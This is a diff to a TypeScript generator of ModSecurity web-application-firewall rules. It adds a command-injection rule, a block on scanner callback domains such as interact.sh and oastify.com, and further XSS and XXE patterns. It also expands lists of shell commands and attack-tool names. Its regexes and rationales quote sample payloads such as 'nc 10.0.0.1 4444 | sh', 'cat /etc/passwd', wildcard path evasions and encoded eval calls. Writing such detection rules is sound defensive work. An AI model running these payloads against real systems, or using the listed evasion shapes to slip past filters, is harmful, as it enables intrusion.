@@ -15,9 +15,9 @@ export const WAF_CATEGORIES = {
   'directory-traversal': { ids: [1001, 1003], title: 'Directory traversal' },
   'sql-injection': { ids: [1010, 1014], title: 'SQL injection' },
   'xss': { ids: [1020, 1024], title: 'XSS attacks' },
-  'command-injection': { ids: [1030, 1032], title: 'Command injection' },
+  'command-injection': { ids: [1030, 1033], title: 'Command injection' },
   'malicious-upload': { ids: [1040, 1041], title: 'Malicious file uploads' },
-  'http-protocol': { ids: [1050, 1052], title: 'HTTP protocol attacks' },
+  'http-protocol': { ids: [1050, 1053], title: 'HTTP protocol attacks' },
   'rate-limiting': { ids: [1060, 1061], title: 'Rate limiting' },
   // Not a category of the guide: its table predates XXE in public WAF suites; the range follows the guide's.
   'xml-external-entities': { ids: [1070, 1070], title: 'XML external entities (XXE)' },
@@ -82,6 +82,11 @@ export interface WafRule {
   readonly extraActions?: readonly string[];
   /** Why the rule exists: what the CRS at PL1 does not already cover, and why the pattern is benign-safe. */
   readonly rationale: string;
+  /**
+   * Off for the arguments of an API body (a request whose body was parsed as JSON or multipart and that has no
+   * query string), as the CRS body exclusions are (setting 1105): for shapes that prompts take. @default false
+   */
+  readonly outsideApiBodies?: boolean;
 }
 
 
@@ -91,6 +96,9 @@ const SHELL_COMMANDS = [
   'cat', 'ls', 'id', 'whoami', 'uname', 'wget', 'curl', 'nc', 'ncat', 'netcat', 'bash', 'sh', 'zsh', 'ksh',
   'python', 'python3', 'perl', 'ruby', 'php', 'rm', 'chmod', 'chown', 'ping', 'nslookup', 'dig', 'sleep',
   'powershell', 'cmd', 'certutil', 'busybox', 'telnet', 'base64', 'env', 'ifconfig', 'passwd', 'kill',
+  'awk', 'sed', 'grep', 'head', 'tail', 'find', 'touch', 'mkfifo', 'socat', 'ssh', 'scp', 'tftp', 'ftp', 'sudo', 'nohup',
+  'crontab', 'useradd', 'echo', 'printf', 'ps', 'netstat', 'tar', 'dd', 'cp', 'mv', 'node', 'java', 'lua', 'gcc', 'xxd',
+  'xargs', 'tee', 'getent', 'nmap', 'openssl', 'uname', 'hostname', 'systemctl', 'chattr', 'lsof',
 ];
 
 /** File extensions a server may execute or a browser may render as active content. */
@@ -105,7 +113,13 @@ export const DANGEROUS_UPLOAD_EXTENSIONS = [
 export const ATTACK_TOOL_AGENTS = [
   'feroxbuster', 'ffuf', 'Fuzz Faster U Fool', 'dirsearch', 'commix', 'XSStrike', 'jaeles', 'katana',
   'sqlninja', 'havij', 'w3af', 'arachni', 'skipfish', 'openvas', 'nessus', 'acunetix', 'netsparker', 'qualys',
-  'zgrab', 'masscan', 'nuclei', 'nikto', 'sqlmap', 'wpscan', 'gobuster', 'dirbuster', 'wfuzz', 'hydra', 'burp',
+  'zgrab', 'masscan', 'nuclei', 'nikto', 'sqlmap', 'wpscan', 'gobuster', 'dirbuster', 'wfuzz', 'hydra', 'burp', '.nasl',
+];
+
+/** Out-of-band interaction domains of scanners (interactsh, Burp Collaborator, DNS loggers): a payload that names one calls home. */
+export const OOB_INTERACTION_DOMAINS = [
+  'interact.sh', 'oast.fun', 'oast.live', 'oast.me', 'oast.online', 'oast.pro', 'oast.site', 'oastify.com', 'burpcollaborator.net',
+  'dnslog.cn', 'ceye.io',
 ];
 
 /** Admin and debug paths of stacks the platform does not run (regex fragments after a path segment boundary). */
@@ -280,6 +294,7 @@ export function wafRules(config: FactoryConfig): readonly WafRule[] {
         op: 'rx',
         arg: String.raw`(?i)\b(?:alert|confirm|prompt|eval)\s*(?:\x60|\?\.\s*\(|\.\s*(?:call|apply|bind)\s*\()` +
           String.raw`|\.\s*(?:find|map|filter|forEach|some|every)\s*\(\s*(?:alert|confirm|prompt|eval)\s*\)` +
+          String.raw`|\b(?:eval|Function|setTimeout|setInterval)\s*\(\s*(?:atob|unescape|decodeURI(?:Component)?|String\.fromCharCode)\s*\(` +
           String.raw`|\b(?:top|window|self|parent|frames|globalThis)\s*\[\s*(?:['"\x60][^'"\x60\]]{0,12}['"\x60]\s*[+\s]\s*['"\x60]|(?:atob|unescape|decodeURI(?:Component)?|String\.fromCharCode)\s*\(|/[^/\s\]]{1,12}/\s*\.\s*source\b)` +
           String.raw`|\bthrow\s+onerror\s*=|\bonerror\s*=\s*(?:alert|confirm|prompt|eval)\b|\bsetTimeout\s*\x60` +
           String.raw`|\(\s*(?:alert|confirm|prompt|eval)\s*\)\s*\(|\bconstructor\s*\(\s*['"\x60][^'"\x60]{0,80}\b(?:alert|confirm|prompt|eval|fetch)\s*\(`,
@@ -288,7 +303,7 @@ export function wafRules(config: FactoryConfig): readonly WafRule[] {
       action: deny, message: 'XSS: a script call without parentheses (tagged template, optional call, call/apply, a callback, a built property name)', severity: 'CRITICAL',
       tags: ['attack-xss', 'OWASP_CRS/WEB_ATTACK/XSS'],
       rationale: 'Filters that look for alert( miss alert\x601\x60, alert?.(…), confirm.call(null,1), [1].find(alert), window[\x27al\x27+\x27ert\x27] and ' +
-        'throw onerror=alert, self[atob(\x27YWxlcnQ=\x27)]: each is a call of a dialog or eval function in a shape ordinary code and prose do not take.',
+        'throw onerror=alert, self[atob(\x27YWxlcnQ=\x27)], eval(atob(…)): each is a call of a dialog or eval function in a shape ordinary code and prose do not take.',
     },
     // ---- 1030-1032 Command injection ----
     {
@@ -298,14 +313,15 @@ export function wafRules(config: FactoryConfig): readonly WafRule[] {
         op: 'rx',
         arg: String.raw`\A(?:[^\n]*?(?:[;&|]|(?<!\x60)\x60(?!\x60)(?![^\x60\n]*\x60(?:[,.;:!?)]*[ \t]+[A-Za-z\x60]|[.!?]+\s*$))|\$\()|\S*\n)\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:${SHELL_COMMANDS.join('|')})(?:\.exe)?(?:\s+(?:[-/$~.'"%]|\d+\.\d+|\d+\s*(?:$|[;&|\x60)])|[\w-]+(?:[./:]\w|://))|\s*$|\s*[;&|\x60)<>])` +
           String.raw`|\A[^\n]*?(?:[;&|]|\$\()\s*(?:/[\w.-]*)*/[\w.-]*(?:\?\?|\w\?[\w?])[\w?.-]*(?:\s|/|$)` +
-          String.raw`|\A[^\n]*?[;&|]\s*(?i:(?:type|dir|copy|del|more|findstr|icacls|attrib|wmic|net1?|reg)\s+(?:[a-z]:[\\/]|%\w+%|\\\\)|(?:systeminfo|tasklist|ipconfig|netstat|net1?\s+(?:user|localgroup))(?:\s+/\w+)*\s*(?:$|[;&|])|net1?\s+(?:user|localgroup|group)\s[^;&|\n]{0,80}?\s/(?:add|del(?:ete)?|domain|active)\b)`,
+          String.raw`|\A[^\n]*?[;&|]\s*(?i:(?:type|dir|copy|del|more|findstr|icacls|attrib|wmic|net1?|reg)\s+(?:[a-z]:[\\/]|%\w+%|\\\\|/[a-z]{1,2}\b)|(?:systeminfo|tasklist|ipconfig|netstat|net1?\s+(?:user|localgroup))(?:\s+/\w+)*\s*(?:$|[;&|])|net1?\s+(?:user|localgroup|group)\s[^;&|\n]{0,80}?\s/(?:add|del(?:ete)?|domain|active)\b|set\s+/a\s+\d)` +
+          String.raw`|\A[^\n]*?(?:[;&|\x60]|\$\()\s*getent\s+(?:a?hosts|passwd|shadow|group)\b`,
       },
       transformations: ['urlDecodeUni', 'removeNulls'],
       action: deny, message: 'Command injection: a shell separator followed by a command', severity: 'CRITICAL',
       tags: ['attack-rce', 'OWASP_CRS/WEB_ATTACK/COMMAND_INJECTION'],
       rationale: 'A separator (; | & && || $( backtick) on the first line of a value, or a line break right after a single token, ' +
         'then a known command and an option, a path, a variable, an address or the end; a path spelled with ? wildcards (/bin/c?t /e??/p??swd) ' +
-        'or a Windows command on a drive path, an %ENV% variable or a share (& type C:\\Windows\\win.ini) after a separator; prose puts plain words after "&" or ";" ' +
+        'or a Windows command on a drive path, an %ENV% variable, a share or a switch (& type C:\\Windows\\win.ini, | set /a 6*7), or getent hosts (a DNS probe), after a separator; prose puts plain words after "&" or ";" ' +
         '("cat & dog; id cards"), a markdown code span that prose goes on after ("`ls -la` prints nothing", "`cat a.txt`, then") is quoted code, ' +
         'and a multi-line value with shell lines or a ```bash fence is a pasted script, not an injected parameter.',
     },
@@ -318,13 +334,13 @@ export function wafRules(config: FactoryConfig): readonly WafRule[] {
           String.raw`|<!--\s*#\s*(?:exec|include|echo|config|fsize|flastmod|printenv|set|if|elif)\b` +
           String.raw`|\.\s*constructor\s*\.\s*constructor\s*\(|\bconstructor\s*\(\s*['"]\s*return\s+(?:process|this|global)\b` +
           String.raw`|\b(?:eval|assert|create_function)\s*\(\s*(?:base64_decode|gzinflate|gzuncompress|str_rot13|phpinfo|system|passthru|shell_exec|\$_(?:GET|POST|REQUEST|COOKIE|SERVER))\b` +
-          String.raw`|\A[^\n]*?(?:\bsystem\s*\(\s*['"]|\b(?:exec|passthru|shell_exec|popen|proc_open)\s*\(\s*['"$]|\bos\.(?:system|popen)\s*\(|\bRuntime\.getRuntime\(\)\.exec|\brequire\s*\(\s*['"]child_process)`,
+          String.raw`|\A[^\n]*?(?:\bServer\s*\.\s*(?:ScriptTimeout|CreateObject)\b|\bsystem\s*\(\s*['"]|\b(?:exec|passthru|shell_exec|popen|proc_open)\s*\(\s*['"$]|\bos\.(?:system|popen)\s*\(|\bRuntime\.getRuntime\(\)\.exec|\brequire\s*\(\s*['"]child_process)`,
       },
       transformations: ['urlDecodeUni', 'removeNulls'],
       action: deny, message: 'Code execution payload: JNDI/expression lookup, reverse shell, encoded PowerShell, shellshock, server-side include or interpreter call', severity: 'CRITICAL',
       tags: ['attack-rce', 'OWASP_CRS/WEB_ATTACK/COMMAND_INJECTION'],
       rationale: 'Payload shapes that are never prose: ${jndi:, /dev/tcp/, bash -c, () { :; };, <?php, __import__(os|subprocess|socket…), a JavaScript ' +
-        'sandbox escape through this.constructor.constructor(\x27return process\x27), PHP eval/assert of a decoder or a request variable, Spring ' +
+        'sandbox escape through this.constructor.constructor(\x27return process\x27), PHP eval/assert of a decoder or a request variable, an ASP web shell\'s Server.ScriptTimeout, Spring ' +
         'class.module.classLoader; interpreter calls (os.system(, exec(\x27, child_process) on the first line of a value: a one-line ' +
         'parameter is an injection, a multi-line code block in a prompt is content.',
     },
@@ -346,6 +362,23 @@ export function wafRules(config: FactoryConfig): readonly WafRule[] {
         'by a polyglot of template openers run together (${{<%[%\x27"}}%\\.) that errors in whichever engine renders it, ' +
         'and exploited through object traversal (__class__.__mro__, config.items(), FreeMarker Execute?new(), SpEL T(java.lang.Runtime)); ' +
         'templates pasted into prompts hold names ({{ user.name }}, ${total}), not those shapes.',
+    },
+    {
+      id: 1033, category: 'command-injection', phase: 2,
+      variables: ['ARGS', 'REQUEST_COOKIES', ...suspectHeaders, 'REQUEST_BASENAME', 'XML:/*'],
+      operator: {
+        op: 'rx',
+        arg: String.raw`\A\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:${SHELL_COMMANDS.join('|')})(?:\.exe)?\s+(?:-{1,2}[a-zA-Z]|/[\w.-]|~/|\$\{?[A-Za-z_]|(?:https?|ftp)://|\d+(?:\.\d+){3}\b|[\w.-]+\s*(?:[|;&>]|\$\())` +
+          String.raw`|\A\s*(?:whoami|uname|ifconfig|ipconfig|systeminfo|tasklist)(?:\.exe)?\s*$|\A\s*sleep\s+\d+\s*$` +
+          String.raw`|\A\s*(?i:(?:type|dir|copy|del|more|findstr|icacls|attrib)\s+(?:[a-z]:[\\/]|%\w+%|\\\\|/[a-z]{1,2}\b)|net1?\s+(?:user|localgroup|group)\b)`,
+      },
+      transformations: ['urlDecodeUni', 'removeNulls'],
+      action: deny, message: 'Command injection: a value that is a command line (a command, then an option, a path, a variable, an address or a pipe)', severity: 'CRITICAL',
+      tags: ['attack-rce', 'OWASP_CRS/WEB_ATTACK/COMMAND_INJECTION'],
+      rationale: 'A parameter passed whole to a shell (cat /etc/passwd, wget http://…, ls -la, nc 10.0.0.1 4444 | sh, type C:\\boot.ini, whoami) starts with the command; ' +
+        'English that starts with the same words goes on with a word ("echo in the mirror", "curl and divergence", "ls 300 lexus"). Off for the arguments of ' +
+        'an API body, where a prompt may well open with a command line it asks about.',
+      outsideApiBodies: true,
     },
     // ---- 1040-1041 Malicious file uploads ----
     {
@@ -400,6 +433,16 @@ export function wafRules(config: FactoryConfig): readonly WafRule[] {
         'that is still encoded after the body was decoded (%0d%0a, \\\\r\\\\n, \\\\u000d) or the UTF-8 characters U+560A/U+560D that some servers truncate to LF/CR, ' +
         'then a header name; 1050 judges the URL and the headers. A real line break followed by "Location:" is a multi-line text, not an encoding trick.',
     },
+    {
+      id: 1053, category: 'http-protocol', phase: 2,
+      variables: ['REQUEST_URI_RAW', 'REQUEST_HEADERS', 'ARGS', 'ARGS_NAMES', 'REQUEST_COOKIES', 'XML:/*'],
+      operator: { op: 'rx', arg: `(?i)(?:^|[^\\w-])(?:[\\w-]+\\.)*(?:${OOB_INTERACTION_DOMAINS.map(escapeRegExp).join('|')})(?![\\w-])` },
+      transformations: ['urlDecodeUni', 'removeNulls'],
+      action: deny, message: 'HTTP protocol attack: a scanner out-of-band interaction domain (interactsh, Burp Collaborator, DNS logger) in the request', severity: 'CRITICAL',
+      tags: ['attack-reputation-scanner', 'OWASP_CRS/AUTOMATION/SECURITY_SCANNER'],
+      rationale: 'Blind injection scanners put a unique host of their own callback service (x.interact.sh, x.oastify.com, x.burpcollaborator.net, x.dnslog.cn) ' +
+        'in every payload and wait for the lookup; whatever the payload, a request naming one is a scan. Webhook services users register (requestbin, pipedream) are not listed.',
+    },
     // ---- 1060-1061 Rate limiting (ModSecurity-side signals; nginx limit_req refuses) ----
     {
       id: 1060, category: 'rate-limiting', phase: 1,
@@ -430,7 +473,8 @@ export function wafRules(config: FactoryConfig): readonly WafRule[] {
         op: 'rx',
         arg: String.raw`(?i)<!ENTITY\s+(?:%|[\w.:-]+\s+(?:SYSTEM|PUBLIC)\b)|<!DOCTYPE\s+[\w.:-]+\s+(?:SYSTEM\b|PUBLIC\s+\\?["'](?!-//W3C//))` +
           String.raw`|<!DOCTYPE\s+[\w.:-]+[^>\[]*\[[^\]]*<!ENTITY\b|<xi:include\b|\bhttps?://www\.w3\.org/2001/XInclude\b` +
-          String.raw`|<\?xml\b[^>]*\bencoding\s*=\s*\\?["']?utf-?7\b|\+ADw-?AIQ-`,
+          String.raw`|<\?xml\b[^>]*\bencoding\s*=\s*\\?["']?utf-?7\b|\+ADw-?AIQ-` +
+          String.raw`|<(?:[\w-]+:)?(?:include|import|redefine|override)\b[^>]*\b(?:namespace|schemaLocation)\s*=\s*\\?["']\s*(?:https?|ftp|file)://|\bschemaLocation\s*=\s*\\?["']\s*[^\s"'\\]+\s*\\?["']`,
       },
       // Deliberately no URL decoding: it would turn the + of a UTF-7 body into a space; ModSecurity decodes ARGS itself.
       transformations: ['removeNulls'],
@@ -438,7 +482,9 @@ export function wafRules(config: FactoryConfig): readonly WafRule[] {
       tags: ['attack-xxe', 'OWASP_CRS/WEB_ATTACK/XXE'],
       rationale: 'XXE reads local files, reaches internal hosts (SSRF) and exhausts memory (billion laughs) through what an XML parser ' +
         'resolves: <!ENTITY … SYSTEM|PUBLIC>, parameter entities, an internal DTD subset declaring entities, an external DTD, XInclude, ' +
-        'and the UTF-7 disguise (+ADwAIQ- is "<!"). An XML body, a plain <!DOCTYPE html> and the W3C XHTML doctype stay allowed.',
+        'and the UTF-7 disguise (+ADwAIQ- is "<!"); a schema include or import of a URL (xs:include namespace="http://…") and a schemaLocation that is one ' +
+        'location instead of namespace-location pairs, which validating parsers fetch. An XML body, a plain <!DOCTYPE html>, the W3C XHTML doctype ' +
+        'and an instance document\'s schemaLocation pairs (a Maven POM) stay allowed.',
     },
     // ---- 1080-1083 Other injections ----
     {
